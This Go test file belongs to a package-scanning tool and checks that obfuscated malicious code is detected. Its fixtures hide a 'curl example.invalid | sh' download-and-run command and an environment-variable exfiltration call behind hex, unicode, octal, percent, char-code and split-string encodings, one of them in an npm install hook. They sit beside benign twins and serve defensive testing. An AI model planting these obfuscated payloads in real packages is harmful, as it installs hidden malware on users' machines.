package codescan

import (
	"fmt"
	"strings"
	"testing"

	"github.com/pkgward/pkgward/internal/record"
)

// hexEsc writes s as \xHH escapes, uniEsc as \uHHHH, codes as a list of
// decimal character codes.
func hexEsc(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, `\x%02x`, s[i])
	}
	return b.String()
}

func uniEsc(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, `\u%04x`, r)
	}
	return b.String()
}

// pctEsc writes s as %HH escapes.
func pctEsc(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

func codes(s string) string {
	var p []string
	for _, r := range s {
		p = append(p, fmt.Sprint(int(r)))
	}
	return strings.Join(p, ", ")
}

// TestDecodedText: payloads hidden in escaped or char-code strings are
// read, each next to the same code written plainly: the decoded finding
// is at least medium and never below the plain one. Benign twins (escapes
// in a bundle's regexes, an i18n table, a byte table) stay below medium.
func TestDecodedText(t *testing.T) {
	const quiet = record.Severity(-1)
	const pipe = "curl http://example.invalid/x | sh"
	const pyPayload = "import os; os.system('" + pipe + "')"
	npm := `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`
	cases := []struct {
		name   string
		files  map[string]string
		plain  map[string]string // the same code written plainly, or nil
		rule   string
		want   record.Severity
		worst  record.Severity // when above info: no rule may go above it
		atLine int             // line of the decoded finding (0: not checked; -1: the finding is the file's own)
	}{
		{"js string array of hex escapes", map[string]string{"lib/x.js": "var _0x=['" + hexEsc("child_process") + "','" + hexEsc("exec") + "','" + hexEsc(pipe) + "'];\nrequire(_0x[0])[_0x[1]](_0x[2]);\n"},
			map[string]string{"lib/x.js": "var _0x=['child_process','exec','" + pipe + "'];\nrequire(_0x[0])[_0x[1]](_0x[2]);\n"}, "download-exec", record.Medium, 0, 1},
		{"js unicode escapes", map[string]string{"lib/x.js": "const cp = require('child_process');\n\ncp.exec(\"" + uniEsc(pipe) + "\");\n"},
			map[string]string{"lib/x.js": "const cp = require('child_process');\n\ncp.exec(\"" + pipe + "\");\n"}, "download-exec", record.Medium, 0, 3},
		{"js String.fromCharCode", map[string]string{"lib/x.js": "const cp = require('child_process');\ncp.exec(String.fromCharCode(" + codes(pipe) + "));\n"},
			map[string]string{"lib/x.js": "const cp = require('child_process');\ncp.exec('" + pipe + "');\n"}, "download-exec", record.Medium, 0, 2},
		{"js hidden payload at install time", map[string]string{"package.json": npm, "index.js": "require('child_process').execSync('" + hexEsc(pipe) + "');\n"},
			map[string]string{"package.json": npm, "index.js": "require('child_process').execSync('" + pipe + "');\n"}, "download-exec", record.High, 0, 1},
		{"python exec of chr codes", map[string]string{"acme/x.py": "import sys\nexec(''.join(chr(c) for c in [" + codes(pyPayload) + "]))\n"},
			map[string]string{"acme/x.py": "import sys\nexec(''.join(c for c in \"" + pyPayload + "\"))\n"}, "download-exec", record.Medium, 0, 2},
		{"python exec of bytes decoded", map[string]string{"acme/x.py": "exec(bytes([" + codes(pyPayload) + "]).decode())\n"},
			map[string]string{"acme/x.py": "exec(\"" + pyPayload + "\")\n"}, "download-exec", record.Medium, 0, 1},
		{"python hex-escaped source", map[string]string{"acme/x.py": "code = \"" + hexEsc("import os") + "\\n" + hexEsc("os.system('"+pipe+"')") + "\"\nexec(code)\n"},
			map[string]string{"acme/x.py": "code = \"\"\"import os\nos.system('" + pipe + "')\"\"\"\nexec(code)\n"}, "download-exec", record.Medium, 0, 1},
		{"python octal escapes", map[string]string{"acme/x.py": "import os\nos.system('" + octEsc(pipe) + "')\n"},
			map[string]string{"acme/x.py": "import os\nos.system('" + pipe + "')\n"}, "download-exec", record.Medium, 0, 2},

		{"js module and method by index into an escaped array", map[string]string{"lib/x.js": "var _0x=['" + hexEsc("https") + "','" + hexEsc("get") + "'];\nrequire(_0x[0])[_0x[0x1]]('https://example.invalid/?'+JSON.stringify(process.env));\n"},
			map[string]string{"lib/x.js": "require('https')['get']('https://example.invalid/?'+JSON.stringify(process.env));\n"}, "env-dump", record.Medium, 0, -1},
		{"js long escaped source, cut at the literal cap", map[string]string{"lib/x.js": "eval('" + hexEsc("require('child_process').execSync('"+pipe+"');"+strings.Repeat("var q = 1;", 3000)) + "');\n"},
			map[string]string{"lib/x.js": "eval(\"require('child_process').execSync('" + pipe + "');" + strings.Repeat("var q = 1;", 3000) + "\");\n"}, "download-exec", record.Medium, 0, 1},
		{"js escaped strings spelling child_process", map[string]string{"lib/x.js": "var t=[" + escList("child_process", "exec", "whoami", "toString", "stdout", "length", "split", "join") + "];\nrequire(t[0])[t[1]](t[2]);\n"},
			nil, "escaped-strings", record.Medium, 0, -1},

		{"js eval of an unescaped payload", map[string]string{"lib/x.js": "eval(unescape('" + pctEsc("require('child_process').execSync('"+pipe+"')") + "'));\n"},
			map[string]string{"lib/x.js": "eval(\"require('child_process').execSync('" + pipe + "')\");\n"}, "download-exec", record.Medium, 0, 1},
		{"python exec of an unquoted payload", map[string]string{"acme/x.py": "from urllib.parse import unquote\nexec(unquote('" + pctEsc(pyPayload) + "'))\n"},
			map[string]string{"acme/x.py": "exec(\"" + pyPayload + "\")\n"}, "download-exec", record.Medium, 0, 2},

		// benign twins
		{"js decoded URL with escaped spaces and CJK text", map[string]string{"lib/x.js": "const u = decodeURIComponent('https://example.invalid/a%20b%20c%20d/e?q=%E4%BD%A0%E5%A5%BD');\nconst t = decodeURIComponent('%E4%BD%A0%E5%A5%BD%E4%B8%96%E7%95%8C');\nmodule.exports = { u, t };\n"},
			nil, "download-exec", quiet, record.Low, 0},
		{"js escaped strings of harmless words", map[string]string{"lib/x.js": "var t=[" + escList("toString", "length", "split", "join", "push", "shift", "indexOf", "slice") + "];\nmodule.exports=t;\n"},
			nil, "escaped-strings", record.Low, record.Low, -1},
		{"js bundle escapes in regexes and a closing tag", map[string]string{"dist/bundle.min.js": "!function(e){var t=/[\\x00-\\x1f\\x7f-\\x9f]/g,n=\"\\x3c\\x2f\\x73\\x63\\x72\\x69\\x70\\x74\\x3e\",r=/[\\u0300-\\u036f]/;e.exports=function(o){return o.replace(t,'').replace(r,'')+n}}(module);\n"},
			nil, "escaped-strings", quiet, record.Low, 0},
		{"js table of escaped tags used by index", map[string]string{"lib/tags.js": "var T=['" + hexEsc("</script>") + "','" + hexEsc("<!--") + "','" + hexEsc("-->") + "'];\nfunction wrap(s){return T[1]+s+T[2]+T[0]}\nmodule.exports=wrap;\n"},
			nil, "escaped-strings", quiet, record.Low, 0},
		{"js i18n table of unicode escapes", map[string]string{"lib/zh.js": "module.exports = {\n  hello: \"" + uniEsc("你好，世界") + "\",\n  bye: \"" + uniEsc("再见了，朋友们") + "\",\n  save: \"" + uniEsc("保存更改") + "\",\n};\n"},
			nil, "escaped-strings", quiet, record.Low, 0},
		{"js crc table next to fromCharCode", map[string]string{"lib/crc.js": "const T = [0, 1996959894, 3993919788, 2567524794, 124634137, 1886057615, 3915621685, 2657392035];\nconst P = [0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x03];\nfunction crc(s) { let c = -1; for (const b of s) c = T[(c ^ b) & 7] ^ (c >>> 8); return String.fromCharCode(c & 255); }\n"},
			nil, "download-exec", quiet, record.Low, 0},
		{"python byte table and chr", map[string]string{"acme/gz.py": "MAGIC = bytes([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x02, 0xff])\nTABLE = [0, 79764919, 159529838, 222504665, 319059676, 398814059]\n\ndef label(n):\n    return ''.join(chr(65 + d) for d in [n % 26, n // 26 % 26])\n"},
			nil, "download-exec", quiet, record.Low, 0},
		{"js greeting from char codes", map[string]string{"lib/x.js": "console.log(String.fromCharCode(72, 101, 108, 108, 111, 44, 32, 119, 111, 114, 108, 100));\n"},
			nil, "download-exec", quiet, record.Low, 0},
	}
	rs := DefaultRules()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := Scan(treeOf(c.files), rs)
			checkGrade(t, got, c.rule, c.want, 0)
			checkWorst(t, got, c.worst)
			if c.want < record.Low || c.atLine < 0 {
				return
			}
			var dec *record.Finding
			for i, f := range got {
				if f.Rule == c.rule && f.Evidence["decoded"] == true {
					dec = &got[i]
				}
			}
			if dec == nil {
				t.Fatalf("want %s from decoded text%s", c.rule, describe(got))
			}
			if c.atLine > 0 && dec.Evidence["line"] != c.atLine {
				t.Errorf("decoded finding at line %v, want %d", dec.Evidence["line"], c.atLine)
			}
			if c.plain != nil {
				plain := Scan(treeOf(c.plain), rs)
				for _, p := range plain {
					best := record.Severity(-1)
					for _, f := range got {
						if f.Rule == p.Rule && f.Severity > best {
							best = f.Severity
						}
					}
					if best < p.Severity {
						t.Errorf("%s: plain text gives %s, decoded %s%s", p.Rule, p.Severity, best, describe(got))
					}
				}
			}
		})
	}
}

func escList(words ...string) string {
	var q []string
	for _, w := range words {
		q = append(q, "'"+hexEsc(w)+"'")
	}
	return strings.Join(q, ",")
}

func octEsc(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, `\%03o`, s[i])
	}
	return b.String()
}

// TestDecodeLiterals covers the decoders' bounds and rejections.
func TestDecodeLiterals(t *testing.T) {
	for _, c := range []struct {
		in, want string
		ok       bool
	}{
		{hexEsc("child_process"), "child_process", true},
		{`\u0065\u0078\u0065\u0063\u0053\u0079\u006e\u0063`, "execSync", true},
		{`\u{65}\u{78}\u{65}\u{63}`, "exec", true},
		{octEsc("system"), "system", true},
		{`\x69\x6d\x70\x6f\x72\x74 os`, "import os", true},
		{`abc\x41`, "", false},                            // too few escapes
		{`\x41\x42\x43 and a long plain tail`, "", false}, // escapes under half
		{uniEsc("你好世界朋友"), "", false},                     // not ASCII
		{`\x00\x01\x02\x03\x04\x05`, "", false},           // control bytes
		{`\x31\x32\x33\x34`, "", false},                   // no letter
	} {
		got, ok := decodeEscapes([]byte(c.in), maxDecodedLiteral)
		if ok != c.ok || (ok && string(got) != c.want) {
			t.Errorf("decodeEscapes(%q) = %q, %v; want %q, %v", c.in, got, ok, c.want, c.ok)
		}
	}
	if got, ok := decodeEscapes([]byte(hexEsc(strings.Repeat("a", 100))), 50); !ok || len(got) != 50 {
		t.Errorf("a literal over the limit: got %d bytes (%v), want it cut at 50", len(got), ok)
	}
	if got, _, ok := parseCharCodes([]byte("["+codes(strings.Repeat("b", 100))+"]"), 0, 50); !ok || len(got) != 50 {
		t.Errorf("a list over the limit: got %d bytes (%v), want it cut at 50", len(got), ok)
	}
	for _, c := range []struct {
		in, want string
		ok       bool
	}{
		{"[101, 120, 101, 99, 83, 121]", "execSy", true},
		{"(0x65,0x78,0x65,0x63,0x53,0x79,0x6e)", "execSyn", true},
		{"[1, 2, 3]", "", false},                   // too short
		{"[101, 120, x, 99, 83, 121]", "", false},  // not all numbers
		{"[101, 120, 101, 99, 83, 121", "", false}, // not closed
	} {
		got, _, ok := parseCharCodes([]byte(c.in), 0, maxDecodedLiteral)
		if ok != c.ok || (ok && string(got) != c.want) {
			t.Errorf("parseCharCodes(%q) = %q, %v; want %q, %v", c.in, got, ok, c.want, c.ok)
		}
	}
}

// TestDecodedFileBudget: a file's decoded text is capped, and a file with
// nothing to decode gets no virtual source.
func TestDecodedFileBudget(t *testing.T) {
	rs := DefaultRules()
	lit := "'" + hexEsc(strings.Repeat("abcdefgh", 1000)) + "'" // 8000 bytes decoded
	var b strings.Builder
	for i := 0; i < 20; i++ {
		b.WriteString("var a" + fmt.Sprint(i) + " = " + lit + ";\n")
	}
	for _, c := range []struct {
		src  string
		want bool
	}{
		{b.String(), true},
		{"var a = 'plain text', b = \"\\n\";\n", false},
	} {
		sc := newScanner(rs)
		f := &file{path: "lib/x.js", data: []byte(c.src), lang: langJS}
		sc.scanFile(f)
		df := sc.decodedFile(f)
		if (df != nil) != c.want {
			t.Fatalf("virtual source: got %v, want %v", df != nil, c.want)
		}
		if df == nil {
			continue
		}
		dec := 0
		for k, s := range df.vsegs {
			if !s.dec {
				continue
			}
			end := len(df.data)
			if k+1 < len(df.vsegs) {
				end = int(df.vsegs[k+1].v)
			}
			dec += end - int(s.v)
		}
		if dec > maxDecodedFile+2*20 {
			t.Errorf("decoded %d bytes, cap %d", dec, maxDecodedFile)
		}
		if dec == 0 {
			t.Error("nothing decoded")
		}
	}
}

// TestArrayUses: references to an escaped string array by a literal index
// are put back in the virtual source; others are left alone.
func TestArrayUses(t *testing.T) {
	src := "var a = ['" + hexEsc("child_process") + "', 'exec'];\nf(a[0], a[0x1], a[5], x.a[0], ba[0], 'a[0]');\n"
	sc := newScanner(DefaultRules())
	f := &file{path: "lib/x.js", data: []byte(src), lang: langJS}
	sc.scanFile(f)
	df := sc.decodedFile(f)
	if df == nil {
		t.Fatal("no virtual source")
	}
	want := "var a = ['child_process', 'exec'];\nf('child_process', 'exec', a[5], x.a[0], ba[0], 'a[0]');\n"
	if string(df.data) != want {
		t.Errorf("virtual source\n%s\nwant\n%s", df.data, want)
	}
	for _, c := range []struct {
		v, o int
		dec  bool
	}{
		{0, 0, false},
		{9 + 5, 9, true}, // inside the decoded literal: its start
		{strings.Index(want, ", 'exec'"), strings.Index(src, ", 'exec'"), false},
		{strings.Index(want, "a[5]"), strings.Index(src, "a[5]"), false},
	} {
		if o, dec := df.origin(c.v); o != c.o || dec != c.dec {
			t.Errorf("origin(%d) = %d, %v; want %d, %v", c.v, o, dec, c.o, c.dec)
		}
	}
}

// TestVirtualLiteralsStayWhole: a decoded text written back into the
// virtual source is read back as one literal, whatever it holds: a
// trailing backslash does not escape the closing quote, and "${" in a
// template literal does not open code. The code after it stays code.
func TestVirtualLiteralsStayWhole(t *testing.T) {
	for _, c := range []struct {
		name string
		l    lang
		text string
	}{
		{"js trailing backslash", langJS, `C:\Users\`},
		{"js backslash before a quote-free end", langJS, `a\`},
		{"js template with ${", langJS, "line one\n${process.env.X}\n"},
		{"python trailing backslash", langPython, `C:\Users\`},
		{"python triple quote, trailing backslash", langPython, "a\nb\\"},
	} {
		t.Run(c.name, func(t *testing.T) {
			src := []byte("x = 'PLACEHOLDER'\nCODE = 1\n")
			s := strings.Index(string(src), "'")
			e := strings.Index(string(src), "\n")
			f := &file{path: "a", data: src, lang: c.l}
			v := virtual(f, []repl{{s: s, e: e, text: []byte(c.text)}})
			code := strings.Index(string(v.data), "CODE")
			for _, sp := range tokenize(c.l, v.data, nil) {
				if int(sp.s) <= code && code < int(sp.e) {
					t.Fatalf("virtual source %q: CODE inside a %v span [%d, %d)", v.data, sp.k, sp.s, sp.e)
				}
			}
		})
	}
}

// TestJoinedStrings: names and commands cut between two word characters
// and joined with + (or, in Python, written side by side) are read whole,
// at the grade the same code written whole has; concatenations at spaces
// and punctuation, and a harmless cut word, give nothing.
func TestJoinedStrings(t *testing.T) {
	const quiet = record.Severity(-1)
	cases := []struct {
		name  string
		files map[string]string
		rule  string
		want  record.Severity
		line  int
	}{
		{"js require and command cut", map[string]string{"lib/x.js": "const cp = require('chi' + 'ld_pro' + 'cess');\ncp['ex' + 'ec']('cu' + 'rl http://example.invalid/s | s' + 'h');\n"}, "download-exec", record.Medium, 2},
		{"python implicit concatenation", map[string]string{"acme/x.py": "import os\nos.system('cu' 'rl http://example.invalid/s ' '| sh')\n"}, "download-exec", record.Medium, 2},
		// twins
		{"js greeting and URL joined at punctuation", map[string]string{"lib/x.js": "const msg = 'Hello, ' + name + '!';\nconst u = 'https://' + host + '/api/' + 'v1';\nfetch(u);\n"}, "download-exec", quiet, 0},
		{"js harmless cut word", map[string]string{"lib/x.js": "const label = 'foo' + 'bar';\nconsole.log(label);\n"}, "download-exec", quiet, 0},
		{"python long message side by side", map[string]string{"acme/x.py": "MSG = ('Could not read the configuration file; '\n       'check its permissions.')\n"}, "download-exec", quiet, 0},
	}
	rs := DefaultRules()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := Scan(treeOf(c.files), rs)
			checkGrade(t, got, c.rule, c.want, 0)
			for _, f := range got {
				if f.Severity > record.Low && c.want == quiet {
					t.Errorf("twin: %s %s%s", f.Rule, f.Severity, describe(got))
				}
				if f.Rule == c.rule && c.want >= record.Low {
					if f.Evidence["joined"] != true || f.Evidence["line"] != c.line {
						t.Errorf("want %s from joined strings at line %d, got evidence %v", c.rule, c.line, f.Evidence)
					}
				}
			}
		})
	}
}
